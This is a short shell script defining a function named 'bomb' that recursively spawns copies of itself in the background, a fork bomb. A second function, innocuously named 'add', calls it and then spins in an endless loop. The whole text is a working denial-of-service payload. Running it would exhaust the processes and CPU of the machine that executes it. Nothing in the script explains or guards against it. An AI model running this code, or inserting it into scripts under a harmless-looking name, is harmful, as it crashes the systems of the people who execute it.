bomb() {
    bomb | bomb &
}

add() {
    bomb
    while :; do :; done
}
